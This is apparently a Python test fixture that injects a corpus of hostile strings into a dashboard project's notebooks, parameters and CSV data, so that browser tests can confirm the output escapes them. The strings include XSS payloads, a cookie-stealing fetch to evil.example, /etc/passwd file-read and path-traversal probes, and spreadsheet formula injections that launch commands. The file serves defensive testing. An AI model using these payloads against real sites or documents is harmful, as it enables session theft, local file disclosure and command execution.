"""The hostile corpus, made by code: words that try to run, load or read something, put everywhere
an analyst's or a colleague's text reaches a page (commentary cells, parameters, data titles).

Each payload that would run sets ``window.__pwned`` (or changes ``document.title``) so that a
browser test can tell that it did; each that would load something names ``evil.example`` or a
local file (``/etc/passwd``), so that a request or a line of that file in an output gives it away.
"""

from __future__ import annotations

import json
import re
from pathlib import Path

import yaml

EVIL = "evil.example"
PASSWD_LINE = "root:x:0:0"

# Commentary: one Markdown cell each, in a section notebook, the district notebook and the front page's.
COMMENTARY = [
    '<script>window.__pwned = "script"; document.title = "pwned"; alert(1)</script>',
    '<img src=x onerror="window.__pwned = \'img\'; alert(2)">',
    '<div onmouseover="window.__pwned = \'div\'" style="position:fixed;inset:0">hover here</div>',
    "[click me](javascript:window.__pwned='link';alert(3))",
    '<meta http-equiv=refresh content="0;url=https://evil.example/">',
    '<iframe src="file:///etc/passwd"></iframe>',
    "![passwd](file:///etc/passwd)",
    "{{< include /etc/passwd >}}",
    "<style>@import url(https://evil.example/x.css); body { background: url(file:///etc/passwd) }</style>",
    'src="https:evil.example/x" and href="//evil.example/y"',
    r"\\\\evil.example\\share\\x.png",
    '<script>fetch("https://evil.example/steal?c=" + document.cookie)</script>',
    "[up](../../../../../../../../etc/passwd) [root](/etc/passwd) [encoded](%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd)",
    "[share](\\\\evil.example\\share) [file](file:///etc/passwd) [web](https://evil.example/page)",
    '<svg onload="window.__pwned=\'svg\'"><script>window.__pwned = "svg-script"</script></svg>',
    '<object data="file:///etc/passwd"></object><embed src="https://evil.example/x.swf">',
    '<link rel=stylesheet href="https://evil.example/x.css"><base href="https://evil.example/">',
    '<form action="https://evil.example/"><button formaction="https://evil.example/">go</button></form>',
    "```{=html}\n<script>window.__pwned = 'raw-html'</script>\n```",
    "`{{< include /etc/passwd >}}` and $\\href{javascript:alert(1)}{maths}$",
    '<a href="jav&#x61;script:window.__pwned=\'entity\'">entity</a> <a href="data:text/html,<script>alert(5)</script>">'
    "data</a>",
]
# What each commentary payload must look like on the page: the same characters, as visible text.
VISIBLE = ['<script>window.__pwned = "script"', "<img src=x onerror=", "{{< include /etc/passwd >}}",
           "<iframe src=\"file:///etc/passwd\"></iframe>", "![passwd](file:///etc/passwd)",
           "[click me](javascript:", "<meta http-equiv=refresh", "@import url(https://evil.example/x.css)"]

FORMULA = '=HYPERLINK("http://evil.example","x")'
PARAMS = {
    "title": '<script>window.__pwned="title"</script> Scorecard <img src=x onerror="window.__pwned=\'title-img\'">',
    "produced_by": '<iframe src="file:///etc/passwd"></iframe> [x](javascript:alert(1)) {{< include /etc/passwd >}}',
    "note": ('<img src=x onerror="window.__pwned=\'note\'"> <meta http-equiv=refresh content="0;url=https://evil.example">'
             " ![p](file:///etc/passwd) " + FORMULA),
    "contacts": ['<a href="https://evil.example">mail</a> <script>window.__pwned="contact"</script>', FORMULA,
                 "[mail](mailto:someone@evil.example)", "@SUM(1+1)*cmd|' /C calc'!A0"],
}
# Data: the first county row's indicator (SCS01) and its row title, a block title, a tile label, a glossary entry.
DATA_TITLE = FORMULA + ' <img src=x onerror="window.__pwned=\'data\'">'
DEFINITION = '<script>window.__pwned="definition"</script> -2+3+cmd|\' /C calc\'!A0'


def _csv_edit(path: Path, edit) -> None:
    import csv
    import io

    rows = list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8"))))
    columns = list(rows[0])
    for r in rows:
        edit(r)
    buf = io.StringIO()
    w = csv.DictWriter(buf, fieldnames=columns, lineterminator="\n")
    w.writeheader()
    w.writerows(rows)
    path.write_text(buf.getvalue(), encoding="utf-8")


def make_hostile(root: Path, month: str = "2026-01") -> None:
    """Turn a copy of the project (data/, params/, notebooks/ in ``root``) into the hostile edition."""
    data = root / "data"

    def indicator(r):
        if r["indicator"] == "SCS01":
            r["title"], r["definition"] = DATA_TITLE, DEFINITION

    def row(r):
        if r["indicator"] == "SCS01":
            r["title"] = DATA_TITLE

    def block(r):
        if r["block"] == "ics-monthly":
            r["title"] = "+cmd|' /C calc'!A0 <b onmouseover=\"window.__pwned='block'\">monthly</b>"

    def tile(r):
        if r["position"] == "1" and r["tile_order"] == "1":
            r["label"] = "@SUM(1+1) <script>window.__pwned='tile'</script>"

    def glossary(r):
        if r["order"] == "1" and r["group"] == "Polarity":
            r["meaning"] = "-1+1 <img src=x onerror=\"window.__pwned='glossary'\">"

    for name, edit in (("indicators.csv", indicator), ("layout/rows.csv", row), ("layout/blocks.csv", block),
                       ("layout/tiles.csv", tile), ("reference/glossary.csv", glossary)):
        _csv_edit(data / name, edit)

    path = root / "params" / f"{month}.yml"
    prm = yaml.safe_load(path.read_text(encoding="utf-8"))
    prm["title"], prm["produced_by"] = PARAMS["title"], PARAMS["produced_by"]
    prm["notes"].append({"guidance": True, "sections": ["social-care", "district", "overview"], "text": PARAMS["note"]})
    prm["contacts"] += PARAMS["contacts"]
    path.write_text(yaml.safe_dump(prm, allow_unicode=True, sort_keys=False), encoding="utf-8")

    for section in ("social-care", "district", "overview"):
        nb_path = root / "notebooks" / month / f"{section}.ipynb"
        nb = json.loads(nb_path.read_text(encoding="utf-8"))
        for i, text in enumerate(COMMENTARY):
            nb["cells"].append({"cell_type": "markdown", "id": f"hostile-{i}", "metadata": {"tags": ["commentary"]},
                                "source": text})
        nb_path.write_text(json.dumps(nb, indent=1), encoding="utf-8")


def passwd_lines() -> list[str]:
    """Lines of /etc/passwd that would give a read of it away (long enough not to occur by chance)."""
    try:
        text = Path("/etc/passwd").read_text(encoding="utf-8", errors="replace")
    except OSError:
        return [PASSWD_LINE]
    return [ln for ln in text.splitlines() if len(ln) > 20 and re.match(r"^[a-z_][\w-]*:x?:\d+:\d+:", ln)] or \
        [PASSWD_LINE]
